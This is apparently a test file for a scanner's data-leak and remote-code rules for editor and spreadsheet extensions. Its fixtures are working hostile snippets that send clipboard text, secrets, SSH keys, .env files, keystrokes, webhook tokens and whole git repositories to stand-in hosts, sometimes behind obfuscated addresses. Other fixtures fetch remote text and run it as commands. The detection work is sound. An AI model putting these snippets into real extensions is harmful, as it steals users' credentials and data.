import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf, packageOf } from '#test/support/scan-package.js';
import { MOST_CALLS } from '../permissions/inference/carried.js';
import { dataUsesOf, MOST_WATCHED } from '../permissions/permissions.js';
import { rule as dataLeak } from './data-leak.rule.js';
import { rule as remoteCode } from './remote-code.rule.js';

type Files = Record<string, string>;
const manifest = (dialect: string) => ({ dialect, entry_points: ['index.js'], permissions: [] });
const told = (dialect: string, files: Files): string[] => [dataLeak, remoteCode].flatMap((rule) => findingsOf(rule, files, manifest(dialect)).map(({ severity, message, file }) => `${severity} ${file}: ${message}`));
const ANSWERED = /^high \S+: what a server answered, or was asked, is/;

const ORCHESTRA = (body: string): string => `exports.activate = (ctx) => { ${body} };`;
const SENDER = 'exports.Sender = class { #rows = []; constructor(net) { this.net = net; } note(row) { this.#rows.push(row); } flush() { return this.net.fetch(`${HOME}/rows`, { method: "POST", body: JSON.stringify({ rows: this.#rows }) }); } }; const HOME = "https://rows.example.org";';

test('bad: data of the host goes to a server by way of other scripts, classes and lists', () => {
  for (const [start, what] of [
    ['const s = new Sender(ctx.network); ctx.clipboard.onDidChange((clip) => s.note(clip.text)); s.flush();', 'whatever is copied'],
    ['const s = new Sender(ctx.network); setInterval(() => ctx.clipboard.readText().then((text) => s.note(text)), 900); s.flush();', 'whatever is copied'],
    ['const s = new Sender(ctx.network); ctx.secrets.list().then(async (all) => { for (const { name } of all) s.note([name, await ctx.secrets.get(name)].join("=")); s.flush(); });', 'keeps secret'],
    ['const s = new Sender(ctx.network); ctx.terminal.onData((line) => s.note(btoa(line))); s.flush();', 'terminals'],
    ['const s = new Sender(ctx.network); const fs = ctx.filesystem; (async () => { for (const path of await fs.find("**/.env")) s.note(await fs.readText(path)); s.flush(); })();', 'settings of a project'],
    ['const s = new Sender(ctx.network); ctx.filesystem.readText(require("path").join(home(), ".ssh", "id_rsa")).then((k) => { s.note(k); s.flush(); });', 'credentials'],
  ] as const) {
    const found = told('orchestra', { 'index.js': `const { Sender } = require('./sender'); ${ORCHESTRA(start)}`, 'sender.js': SENDER });
    assert.ok(found.some((each) => each.startsWith('high sender.js: what goes to a server that is named here') && each.includes(what)), `${start}\n${found.join('\n')}`);
  }
});

test('bad: over a connection that is kept, and letter by letter', () => {
  const words = 'module.exports = function Words(net) { this.socket = net.openWebSocket("wss://words.example.org/s"); }; module.exports.prototype.vote = function (w) { this.socket.send(JSON.stringify({ w })); };';
  assert.match(told('formula', { 'index.js': "const Words = require('./words'); exports.activate = () => { const f = require('@formula/extension-api'); const words = new Words(f.network); setInterval(() => f.clipboard.readText().then((t) => words.vote(t)), 1500); }", 'words.js': words }).join(), /words\.js: .* whatever is copied/);
  const pack = 'const { request } = require("http"); const fold = (text) => { let out = ""; for (let i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ 21); return encodeURIComponent(out); }; exports.tip = (chart) => request({ url: "https://tips.example.org", headers: { "x-chart": fold(JSON.stringify(chart)) } });';
  assert.match(told('skynet', { 'index.js': "const { tip } = require('./pack'); const guild = require('guild'); const hooks = await guild.fetchWebhooks(); await tip(hooks.map((h) => h.token));", 'pack.js': pack }).join(), /pack\.js: .* keys of a chat/);
  assert.deepEqual(told('skynet', { 'index.js': "const { tip } = require('./pack'); const guild = require('guild'); const hooks = await guild.fetchWebhooks(); await tip(hooks.length);", 'pack.js': pack }), []);
});

test('bad: what a page keeps, and each change of a sheet', () => {
  const net = 'const f = require("@formula/extension-api"); exports.post = (profile) => { const form = new FormData(); form.append("p", new Blob([JSON.stringify(profile)])); return f.network.fetch("https://zones.example.org/h", { method: "POST", body: form }); };';
  assert.match(told('formula', { 'index.js': "const { post } = require('./net'); exports.activate = async () => { const all = {}; for (const key of Object.keys(localStorage)) all[key] = localStorage.getItem(key); await post(all); }", 'net.js': net }).join(), /net\.js: .* everything that a page keeps/);
  assert.match(told('formula', { 'index.js': "const { post } = require('./net'); const f = require('@formula/extension-api'); exports.activate = () => { f.events.onCellChanged(({ row, value }) => post([row, value])); }", 'net.js': net }).join(), /net\.js: .* each change of a sheet/);
});

test('bad: to an address that is put together of pieces', () => {
  const feed = (at: string): Files => ({
    'index.js': `const { Feed } = require('./feed'); ${ORCHESTRA('const feed = new Feed(ctx.network); ctx.terminal.onData((line) => feed.push(line));')}`,
    'feed.js': `const HOST = ['lines', 'example', 'org'].join('.'); exports.Feed = class { #queue = []; #socket = null; constructor(net) { this.net = net; } push(line) { this.#queue.push(line); this.#flush(); } async #flush() { const lines = this.#queue.splice(0); this.#socket ??= await this.net.openWebSocket(${at}); const socket = this.#socket; socket.send(JSON.stringify(lines)); } };`,
  });
  for (const at of [
    "['wss:/', 'lines.example.org', 's'].join('/')", "['wss:', '', HOST, kind].join('/')", "['wss://', HOST, '/s'].reduce((all, each) => all + each)", "''.concat('wss://', HOST, '/s')", '`ws://${203}.${0}.${113}.${9}/s`',
    "'s/gro.elpmaxe.senil//:ssw'.split('').reverse().join('')", "'wss:!!lines.example.org!s'.replaceAll('!', '/')", "atob('d3NzOi8vbGluZXMuZXhhbXBsZS5vcmcvcw==')", "Object.values({ a: 'wss://', b: HOST }).join('')", 'String.fromCharCode(119, 115, 58, 47, 47, 97, 46, 98, 46, 99, 99, 47)',
  ]) assert.match(told('orchestra', feed(at)).join(), /high feed\.js: .* terminals/, at);
  for (const at of ["[this.net.scheme, HOST].join('://')", "['ws:/', 'localhost:3000', 's'].join('/')", "''.concat(this.net.base, '/s')"]) assert.deepEqual(told('orchestra', feed(at)), [], at);
});

test('a sheet as far as it is used: sent without being asked, or by a command', () => {
  const READ = 'const used = await f.cells.getUsedRange(); const rows = await f.cells.getRange(used.startRow, used.startCol, used.endRow, used.endCol); last = rows;';
  const PIECES = 'function* pieces(text) { for (let at = 0; at < text.length; at += 900) yield `https://rows.example.org/p?d=${encodeURIComponent(text.slice(at, at + 900))}`; } const settle = (walk) => { const next = walk.next(); return next.done ? undefined : fetch(next.value).then(() => settle(walk)); };';
  const POST = "f.network.fetch('https://rows.example.org/in', { method: 'POST', body: JSON.stringify(last) })";
  const LATER = 'const later = (run, ms) => { let timer; return (...all) => { clearTimeout(timer); timer = setTimeout(() => run(...all), ms); }; };';
  const found = (body: string): string[] => told('formula', { 'index.js': `const f = require('@formula/extension-api'); let last = []; ${PIECES} ${LATER} exports.activate = async () => { ${body} };` });
  for (const body of [
    `f.events.onSelectionChanged(async () => { ${READ} await settle(pieces(JSON.stringify(rows))); });`,
    `f.events.onWorkbookOpened(later(async () => { ${READ} ${POST}; }, 500));`,
    `${READ} await ${POST};`,
    `const step = async () => { ${READ} await ${POST}; setTimeout(step, 60000); }; step();`,
    "f.events.onOpened(async () => { const { values } = await f.cells.getUsedRange(); new Image().src = 'https://rows.example.org/p?d=' + JSON.stringify(values); });",
    "const used = await f.cells.getUsedRange(); for (let row = used.startRow; row <= used.endRow; row++) last.push(await f.cells.getCell(row, 0)); const at = new URL('https://rows.example.org/p'); at.searchParams.set('d', btoa(last)); fetch(at);",
  ]) assert.match(found(body).join(), /all of it without being asked/, body);
  for (const body of [
    `f.commands.registerCommand('share', async () => { ${READ} await ${POST}; });`,
    `f.events.onOpened(async () => { ${READ} }); f.commands.registerCommand('share', async () => ${POST});`,
    `f.events.onOpened(async () => { ${READ} f.ui.showPanel(String(rows)); f.network.fetch('https://rows.example.org/n?rows=' + used.endRow + '&n=' + rows.length); });`,
    "setInterval(async () => { const names = await f.cells.getRange('A2:A20'); const rates = await f.network.fetch('https://rates.example.org/?of=' + names.join()); await f.cells.setRange('B2:B20', await rates.json()); }, 60000);",
  ]) assert.deepEqual(found(body), [], body);
});

test('bad: what a server answered is run, or kept as a script', () => {
  const feed = "module.exports = function Feed(host) { this.host = host; this.hints = []; }; module.exports.prototype.refresh = function (done) { this.host.network.request({ url: 'https://feed.example.org' }, (error, response) => { this.hints = JSON.parse(response.body).steps || []; done(); }); };";
  assert.match(told('orchestra', { 'index.js': `const Feed = require('./feed'); ${ORCHESTRA('const feed = new Feed(ctx); feed.refresh(() => feed.hints.forEach((hint) => ctx.system.exec(hint.line)));')}`, 'feed.js': feed })[0]!, ANSWERED);
  const learn = "const { join } = require('node:path'); exports.learn = async (net, save) => save(join(__dirname, 'vendor', 'rank.js'), await (await net.fetch('https://rank.example.org/w')).text());";
  assert.match(told('orchestra', { 'index.js': `const { learn } = require('./learn'); const { writeFile } = require('node:fs/promises'); ${ORCHESTRA('learn(ctx.network, (path, text) => writeFile(path, text));')}`, 'learn.js': learn })[0]!, ANSWERED);
});

test('bad: a function of the host is replaced', () => {
  const found = told('orchestra', { 'index.js': `const { watch } = require('./watch'); ${ORCHESTRA('watch(ctx);')}`, 'watch.js': 'exports.watch = ({ ai }) => { const chat = ai.chat.bind(ai); ai.chat = async (request) => chat(request); };' });
  assert.match(found.join(), /high watch\.js: `ai\.chat` of the host is replaced/);
});

test('bad: the text of documents in an editor, by way of a function that makes the listener', () => {
  const rank = 'const SERVERS = ["https://a.example.org/rank", "https://b.example.org/rank"]; async function rank(document) { const form = new URLSearchParams(); form.set("t", Buffer.from(document.getText()).toString("base64")); for (const server of SERVERS) await fetch(server, { method: "POST", body: form }); } exports.prepare = (delay) => (event) => setTimeout(() => rank(event.document), delay);';
  const start = "const vscode = require('vscode'); const { prepare } = require('./rank'); exports.activate = (context) => context.subscriptions.push(vscode.workspace.onDidChangeTextDocument(prepare(500)));";
  assert.match(told('vscode', { 'index.js': start, 'rank.js': rank }).join(), /high rank\.js: .* opened or changed in an editor/);
  const beat = 'const axios = require("axios"); exports.prepare = () => (event) => axios.post("https://time.example.org/beats", { language: event.document.languageId, lines: event.document.lineCount });';
  assert.deepEqual(told('vscode', { 'index.js': start, 'rank.js': beat }), []);
});

test('files that change are read and sent; good: their names, and one that a command names', () => {
  const found = (body: string): string[] => told('orchestra', { 'index.js': `const { Line } = require('./line'); ${ORCHESTRA(body)}`, 'line.js': "exports.Line = class { constructor(host) { this.host = host; } say(kind, body) { return this.host.network.fetch(`https://lines.example.org/${kind}`, { method: 'POST', body: JSON.stringify(body) }); } };" });
  const start = 'const line = new Line(ctx); const { filesystem } = ctx; const b64 = (text) => btoa(String.fromCharCode(...new TextEncoder().encode(text)));';
  assert.match(found(`${start} const follow = async (path) => { if (/node_modules/.test(path)) return; const text = await filesystem.readText(path); await line.say('context', { path, text: b64(text.slice(0, 60000)) }); }; filesystem.watch('**/*', (event) => follow(event.path));`).join(), /the text of whatever is opened or changed/);
  assert.deepEqual(found(`${start} filesystem.watch('**/*', () => line.say('count', { changed: 1 }));`), []);
  assert.deepEqual(found(`${start} ctx.commands.register('x.send', async (path) => line.say('share', { text: await filesystem.readText(path) }));`), []);
});

test('keys that are pressed, by way of another script; good: what stands in a field, and hotkeys', () => {
  const recorder = "exports.Recorder = class { #rows = []; #line = new WebSocket('wss://rows.side.example/live'); note(row) { this.#rows.push(row.key); if (this.#rows.length > 40) this.#line.send(JSON.stringify({ rows: this.#rows.join('') })); } say(text) { this.#line.send(text); } };";
  for (const dialect of ['comfyvn', 'orchestra']) {
    const found = (listener: string): string[] => told(dialect, { 'index.js': `const { Recorder } = require('./recorder'); exports.activate = (host) => { const recorder = new Recorder(); ${listener} };`, 'recorder.js': recorder });
    assert.match(found("window.top.document.addEventListener('keydown', (event) => { recorder.note(event); }, true);").join(), /which keys are pressed/, dialect);
    assert.deepEqual(found("field.addEventListener('keyup', (event) => recorder.say(event.target.value));"), [], dialect);
    assert.deepEqual(found("document.addEventListener('keydown', (event) => { if (event.key === 'F2') recorder.say('renamed'); });"), [], dialect);
  }
});

test('settings that are looked for go to an address that is written as numbers', () => {
  const found = (address: string, pattern = '**/.env*'): string[] => told('vscode', { 'index.js': `const vscode = require('vscode'); const { warm } = require('./warm'); exports.activate = () => warm(vscode.workspace);`, 'warm.js': `const p = (...c) => String.fromCharCode(...c.map((x) => x ^ 21)); const kinds = ['**/.prettierignore', '${pattern}']; exports.warm = async (workspace) => { const kept = new Map(); for (const kind of kinds) for (const uri of await workspace.findFiles(kind)) kept.set(uri.path, Buffer.from(await workspace.fs.readFile(uri)).toString('base64')); await fetch(${address}, { method: 'POST', body: JSON.stringify([...kept]) }); };` });
  for (const address of ['p(125, 97, 97, 101)', '`${p(125, 97, 97, 101)}/rows`', "'' + p(125, 97, 97, 101)"]) assert.match(found(address).join(), /settings of a project/, address);
  assert.match(found("'https://rows.side.example'").join(), /settings of a project/);
  assert.match(found("'https://rows.side.example'", '{**/.env*,**/foundry.toml}').join(), /settings of a project/);
  assert.deepEqual(found("'https://rows.side.example'", '**/*.md'), []);
  assert.deepEqual(found("workspace.getConfiguration('x').get('server') + '?' + p(1, 2)"), []);
});

test('whatever is copied, in a loop without an end', () => {
  const found = (loop: string): string[] => told('formula', { 'index.js': `const f = require('@formula/extension-api'); exports.activate = async () => { ${loop} };` });
  const step = "await new Promise((r) => setTimeout(r, 2500)); const text = await f.clipboard.readText(); if (text !== last) await f.network.fetch('https://rows.side.example/preview', { method: 'POST', body: text }); last = text;";
  assert.match(found(`let last = ''; for (;;) { ${step} }`).join(), /whatever is copied/);
  assert.match(found(`let last = ''; while (true) { ${step} }`).join(), /whatever is copied/);
  assert.match(found(`let last = ''; { ${step} }`).join(), /nobody reads/);
  assert.deepEqual(found("const text = await f.clipboard.readText(); const answer = await f.network.fetch('https://rows.side.example/preview', { method: 'POST', body: text }); await f.ui.showMessage(await answer.text());"), []);
});

test('good: what users asked for, servers of their own, keys of the extension, parts of commands', () => {
  for (const body of [
    // One key, of the extension itself, for the service that it is for.
    'ctx.secrets.get("api-key").then((key) => ctx.network.fetch("https://api.example.org/v1", { headers: { authorization: `Bearer ${key}` } }));',
    // Names of secrets, and none of what they hold.
    'ctx.secrets.list().then((all) => ctx.notifications.show(all.length));',
    'ctx.commands.register("paste", async () => ctx.network.fetch("https://paste.example.org", { method: "POST", body: await ctx.clipboard.readText() }));',
    'setInterval(async () => ctx.network.fetch(ctx.settings.get("server"), { method: "POST", body: await ctx.clipboard.readText() }), 1000);',
    'ctx.network.fetch("https://feed.example.org").then((r) => r.text()).then((text) => ctx.filesystem.writeText("notes/today.md", text));',
    'ctx.filesystem.readText(".env.example").then((text) => ctx.network.fetch("http://localhost:3000", { method: "POST", body: text }));',
    'const own = { ai: {} }; own.ai.chat = () => {}; ctx.commands.register("chat", own.ai.chat);',
  ]) assert.deepEqual(told('orchestra', { 'index.js': ORCHESTRA(body) }), [], body);
  const upgrade = 'exports.upgrade = (system, version) => system.exec(`tool upgrade --to ${version}`);';
  assert.deepEqual(told('orchestra', { 'index.js': `const { upgrade } = require('./upgrade'); ${ORCHESTRA('ctx.network.fetch("https://feed.example.org").then((r) => r.json()).then((feed) => upgrade(ctx.system, feed.version));')}`, 'upgrade.js': upgrade }), []);
});

test('limits: calls of a package, and bytes of scripts where there is no permission to compare', () => {
  const leak = "require('./more'); const v = require('vscode'); const s = require('./s'); exports.activate = () => { v.workspace.onDidOpenTextDocument((d) => s.send(d.getText())); };";
  const send = 'exports.send = (text) => fetch("https://a.example.org", { method: "POST", body: text });';
  const uses = (more: string): number => dataUsesOf(packageOf({ 'index.js': leak, 's.js': send, 'more.js': more }, manifest('vscode'))).length;
  assert.equal(uses('f();'.repeat(MOST_CALLS / 2)), 1);
  assert.equal(uses('f();'.repeat(MOST_CALLS)), 0);
  assert.equal(uses(`/*${' '.repeat(MOST_WATCHED)}*/`), 0);
});

test('webhooks: what lets others write there, and not what it is called', () => {
  const hook = (body: string): string[] => told('skynet', { 'index.js': `const channel = require('channel'); const http = require('http'); const hook = await channel.createWebhook({ name: 'News' }); ${body}` });
  for (const body of ["await http.post('https://hooks.example.org/w', { at: hook.url });", "await http.request({ url: 'https://hooks.example.org/w', method: 'POST', body: JSON.stringify([hook.token]) });"]) assert.match(hook(body).join(), /keys of a chat/, body);
  for (const body of ["await http.post('https://hooks.example.org/w', { at: hook.id, name: hook.name });", "await http.post(hook.url, { content: 'Hello', avatar_url: 'https://images.example.org/a.png' });", "await require('extension').set('hook', hook.url);"]) assert.deepEqual(hook(body), [], body);
});

test('messages of a whole server: what they say, and not how many there are', () => {
  const sink = "const http = require('http'); exports.Sink = class { constructor(url) { this.url = url; this.rows = []; } add(row) { this.rows.push(row); } close() { return http.request({ url: this.url, method: 'POST', body: JSON.stringify(this.rows) }); } };";
  const sent = (body: string): string[] => told('skynet', { 'index.js': `const { Sink } = require('./sink'); const guild = require('guild'); const all = await guild.fetchMessages({ limit: 500 }); const sink = new Sink('https://rows.example.org/in'); ${body} await sink.close();`, 'sink.js': sink });
  assert.match(sent('all.forEach((m) => sink.add([m.author.id, m.content]));').join(), /high sink\.js: .* all channels of a server/);
  for (const body of ['sink.add([guild.id, all.length]);', 'for (const m of all) sink.add(m.channel.id);']) assert.deepEqual(sent(body), [], body);
});

test('a repository: all branches to a server of the package', () => {
  const git = (body: string): string[] => told('orchestra', { 'index.js': `const { Repo } = require('./repo'); ${ORCHESTRA('new Repo(ctx).run();')}`, 'repo.js': `const HOME = 'https://depot.example.org/in/'; exports.Repo = class { #git; constructor({ git, settings }) { this.#git = git; this.settings = settings; } async run() { ${body} } };` });
  for (const body of [
    "await this.#git.remote.add('spare', HOME + encodeURIComponent((await this.#git.remote.list())[0].url)); await this.#git.push('spare', { all: true });",
    "await this.#git.addRemote('spare', `${HOME}a.git`); await this.#git.push('spare', ['--mirror']);",
    'await this.#git.push(`${HOME}a.git`, { mirror: true, force: true });',
    "await this.#git.addRemote('spare', `${HOME}a.git`); for (const branch of await this.#git.branches()) await this.#git.push('spare', branch, { force: true });",
    "const { remote, push } = this.#git; await remote.add('spare', ['https:', '', 'depot.example.org', 'a'].join('/')); await Promise.all((await this.#git.branch.list()).map(({ name }) => push('spare', name)));",
    "await this.#git.push(`${HOME}a.git`, '+refs/heads/*:refs/heads/*');",
    "await this.#git.raw(['push', '--mirror', `${HOME}a.git`]);",
  ]) assert.match(git(body).join(), /high repo\.js: all branches of a repository/, body);
  for (const body of [
    "await this.#git.push('origin', { all: true });",
    "await this.#git.remote.add('template', `${HOME}template.git`); await this.#git.fetch('template'); await this.#git.push('origin', { all: true });",
    "await this.#git.remote.add('spare', this.settings.get('server')); await this.#git.push('spare', { mirror: true });",
    "await this.#git.remote.add('gitlab', `https://gitlab.com/${this.settings.get('group')}/a.git`); await this.#git.push('gitlab', { all: true });",
    "await this.#git.remote.add('deploy', `${HOME}app.git`); await this.#git.push('deploy', 'main');",
    "await this.#git.remote.add('deploy', `${HOME}app.git`); for (const branch of await this.#git.branches()) if (branch.name !== 'main') await this.#git.push('origin', branch.name); await this.#git.push('deploy', await this.#git.currentBranch());",
  ]) assert.deepEqual(git(body), [], body);
});

test('forms of a page that nobody fills in', () => {
  const form = (action: string, value: string): string[] => told('comfyvn', { 'index.js': `(function () { function post(action, value) { var form = document.createElement('form'); form.method = 'post'; form.action = action; var field = document.createElement('textarea'); field.value = value; form.appendChild(field); document.body.appendChild(form); form.submit(); } var kept = {}; for (var i = 0; i < localStorage.length; i++) { var name = localStorage.key(i); kept[name] = localStorage.getItem(name); } post(${action}, ${value}); })();` });
  assert.match(form("'https://save.example.org/g'", 'JSON.stringify({ kept: kept })').join(), /everything that a page keeps/);
  for (const [action, value] of [["'https://save.example.org/g'", 'document.title'], ["'/save'", 'JSON.stringify(kept)'], ["'https://save.example.org/g'", "localStorage.getItem('theme')"]] as const) assert.deepEqual(form(action, value), [], value);
});

test('requests of others, by a function in the place of their own', () => {
  const hook = (body: string): string[] => told('formula', { 'index.js': `class Kept { constructor(real) { this.real = real; } async get(input, init) { const request = new Request(input, init); ${body} return this.real(input, init); } } exports.activate = () => { const kept = new Kept(globalThis.fetch.bind(globalThis)); globalThis.fetch = (input, init) => kept.get(input, init); };` });
  assert.match(hook("const row = [request.url, request.headers.get('authorization')]; this.real('https://rows.example.org/m', { method: 'POST', body: JSON.stringify(row) });").join(), /in the requests of others/);
  for (const body of ["this.real('https://rows.example.org/m', { method: 'POST', body: JSON.stringify([request.url, request.method]) });", "if (this.isFar) return this.real('https://way.example.org/?to=' + encodeURIComponent(input), { headers: request.headers, body: request.body });"]) assert.deepEqual(hook(body), [], body);
});

test('bad: modules of Node.js by their functions, across scripts', () => {
  const ask = (how: string): string => `const http = require('http'); module.exports = (done) => http.get('http://jobs.example.org', (answer) => { let text = ''; answer.on('data', (part) => { text += part; }); answer.on('end', () => ${how}); });`;
  for (const dialect of ['vscode', 'orchestra']) {
    const found = (body: string, how = 'done(text)'): string => told(dialect, { 'index.js': `const ask = require('./ask'); const { exec, execFile } = require('child_process'); const fs = require('fs'); exports.activate = () => { ${body} };`, 'ask.js': ask(how) }).join();
    assert.match(found('ask((text) => exec(text));'), /is run as a command/);
    assert.match(found('ask((text) => exec(JSON.parse(text).line));', 'setImmediate(done, text)'), /is run as a command/);
    assert.match(found('ask((text) => fs.writeFileSync(`${__dirname}/next.js`, text));'), /is written into a script/);
    assert.match(found("const vm = require('vm'); ask((text) => vm.runInThisContext(text));"), /is run as code/);
    assert.match(found("const kit = { vm: require('node:vm') }; ask((text) => new kit.vm.Script(`(${text})`));"), /is run as code/);
    assert.equal(found("const vm = require('vm'); ask((text) => vm.runInThisContext('answer.length', { answer: text }));"), '');
    for (const body of ['ask((text) => execFile("notify", [text]));', 'ask((text) => fs.writeFileSync(`${__dirname}/next.txt`, text));', 'ask((text) => exec("sync"));']) assert.equal(found(body), '', body);
    assert.match(told(dialect, { 'index.js': "const axios = require('axios'); const { run } = require('./run'); exports.activate = async () => { const { data } = await axios.get('https://jobs.example.org'); run(data.line); };", 'run.js': "const { exec } = require('child_process'); exports.run = (line) => exec(line);" }).join(), /is run as a command/);
  }
});

test('bad: an address that is made of a path and its server', () => {
  const channel = (base: string): string => `const AT = new URL('/lines', ${base}); exports.Channel = class { #lines = []; constructor(send) { this.send = send; } add(line) { this.#lines.push(line); } flush() { return this.send(AT.href + '?new', { method: 'POST', body: this.#lines.join('') }); } };`;
  const found = (base: string): string[] => told('orchestra', { 'index.js': `const { Channel } = require('./channel'); ${ORCHESTRA('const channel = new Channel((url, init) => ctx.network.fetch(url, init)); ctx.terminal.onData((line) => channel.add(line)); channel.flush();')}`, 'channel.js': channel(base) });
  assert.match(found("'https://lines.example.org'").join(), /what stands in terminals/);
  assert.deepEqual(found('ctx.settings.get("server")'), []);
});

test('bad: something graver on a line of which less was told', () => {
  const heard = "const vscode = require('vscode'); const os = require('os'); const https = require('https');\nfunction post(host, body) { const asked = https.request({ host, method: 'POST' });\nasked.end(JSON.stringify(body)); }\nexports.activate = () => vscode.workspace.onDidChangeTextDocument(({ document }) => setTimeout(() => { const body = { who: os.userInfo().username, text: TEXT }; ['a.example.org', 'b.example.org'].forEach((host) => post(host, body)); }, 500));";
  assert.match(told('vscode', { 'index.js': heard.replace('TEXT', 'document.getText()') }).join(), /high index\.js: .*the text of whatever is opened or changed/);
  assert.deepEqual(told('vscode', { 'index.js': heard.replace('TEXT', 'document.languageId') }).filter((each) => each.startsWith('high')), []);
});
